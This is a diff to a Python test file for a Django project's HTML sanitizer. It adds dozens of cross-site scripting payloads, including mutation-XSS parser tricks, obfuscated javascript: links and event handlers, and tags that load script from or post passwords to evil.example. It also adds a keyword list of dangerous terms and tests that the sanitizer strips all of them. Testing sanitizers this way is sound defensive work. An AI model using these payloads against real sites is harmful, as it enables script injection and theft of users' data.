@@ -2,6 +2,7 @@
 
 import json
 import os
+import re
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -13,6 +14,7 @@ from django.template import Context, Template
 from hypothesis import given
 from hypothesis import strategies as st
 
+from disclosure import html_bounds
 from disclosure.models import Item, ReportSection
 from disclosure.richtext import ATTRIBUTES, TAGS, html_to_text, sanitize
 from disclosure.templatetags.richtext import Heading, outline
@@ -40,8 +42,58 @@ ATTACKS = [
     '<img src="/attachments/../javascript" alt="x">',
     "<math><style><img src=x onerror=alert(1)></style></math>",
     "<textarea><script>alert(1)</script></textarea>",
+    # Half-open tags, odd separators, odd quotes, characters in the middle of names.
+    "<img src=x onerror=alert(1)//",
+    "<img/src=x/onerror=alert(1)>",
+    "<img\fsrc=x\fonerror=alert(1)>",
+    "<img src=`x`onerror=alert(1)>",
+    "<scr\0ipt>alert(1)</scr\0ipt>",
+    "<SCRIPT/XSS SRC=//evil.example/x.js></SCRIPT>",
+    "<<script>alert(1)//<</script>",
+    "<script\n>alert(1)</script\n>",
+    '<p title="</p><script>alert(1)</script>">x</p><img title="`><img src=x onerror=alert(1)>">',
+    # Comments, declarations and instructions that end earlier or later than they seem to.
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!--!><img src=x onerror=alert(1)>-->",
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<![CDATA[<]]><script>alert(1)</script>",
+    "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE x [<!ENTITY y 'javascript:'>]>",
+    # What a second parsing turns into something else.
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<svg></p><style><a title='</style><img src onerror=alert(1)>'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<table><td><a href=x><table><a href=javascript:alert(1)>x</table>",
+    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
+    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
+    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
+    "<select><iframe></select><img src=x onerror=alert(1)>",
+    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
+    # Addresses that browsers read otherwise than they are written.
+    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
+    '<a href="java&Tab;script&NewLine;:alert(1)">x</a>',
+    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
+    '<a href="\u00a0javascript:alert(1)">x</a>',
+    '<a href="blob:https://evil.example/x">x</a><a href="filesystem:https://evil.example/x">x</a>',
+    '<a href="https:evil.example">x</a><a href="///evil.example">x</a>',
+    '<a href="view-source:javascript:alert(1)">x</a><a href="feed:javascript:alert(1)">x</a>',
+    '<a href="https://a.cn/" ping="https://evil.example/" onclick="alert(1)">x</a>',
+    # Elements that load, send, place or move.
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="//evil.example/">',
+    '<link rel="stylesheet" href="//evil.example/x.css"><style>@import "//evil.example/x.css";</style>',
+    '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
+    '<form action="//evil.example/"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
+    "<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio><marquee onstart=alert(1)>x</marquee>",
+    '<svg><animate attributeName="href" values="javascript:alert(1)"/><use href="data:image/svg+xml,<svg>"/></svg>',
+    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
+    '<img srcset="https://evil.example/x.png 1x" sizes="1px" src="data:image/svg+xml,<svg onload=alert(1)>" usemap="#m">',
+    '<table background="javascript:alert(1)"><td background="//evil.example/x.png">x</td></table>',
+    '<p style="background:url(javascript:alert(1))" class="wide" id="location">x</p><img name="cookie" id="forms">',
+    '<x-script is="x-evil" onclick=alert(1) contenteditable>x</x-script><portal src="//evil.example/"></portal>',
 ]
 DANGEROUS = ("script", "onerror", "javascript", "style", "iframe", "evil.example", "svg")
+INERT = re.compile(r"&lt;.*?&gt;|title=\"[^\"]*\"|^[^<]*$")  # words, which nobody runs
 PICTURE = '<img src="/attachments/0f0e0d0c-0b0a-4908-8706-050403020100/%E5%9B%BE.png" alt="图">'
 
 LEVELS = "嵌套层次过深"
@@ -102,7 +154,13 @@ class Structure(HTMLParser):
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_it_leaves_nothing_dangerous(attack):
     clean = sanitize(attack).lower()
-    assert not any(word in clean for word in DANGEROUS)
+    assert not any(word in INERT.sub("", clean) for word in DANGEROUS), clean
+    assert Structure(clean).faults == []
+    assert sanitize(clean) == clean
+
+
+def test_there_are_enough_attacks():
+    assert len(set(ATTACKS)) >= 60
 
 
 def test_it_keeps_what_a_document_is_made_of():
@@ -145,6 +203,19 @@ def test_characters_no_document_needs_are_gone(html):
 def test_what_no_document_is_gets_refused_in_words(html, words):
     with pytest.raises(ValidationError, match=words):
         sanitize(html)
+
+
+def test_what_no_document_is_never_reaches_the_parser(monkeypatch):
+    """The parser is what takes minutes; the counting before it goes once from tag to tag."""
+    looked_at = []
+    piece = html_bounds._Nesting._piece
+    monkeypatch.setattr(html_bounds._Nesting, "_piece", lambda *a: looked_at.append(1) or piece(*a))
+    monkeypatch.setattr("disclosure.richtext.nh3.clean", lambda *a, **k: pytest.fail("parsed"))
+    for html, _ in BOMBS:
+        looked_at.clear()
+        with pytest.raises(ValidationError):
+            sanitize(html)
+        assert len(looked_at) <= html.count("<") <= html_bounds.MAX_TAGS + 1
 
 
 @pytest.mark.parametrize(
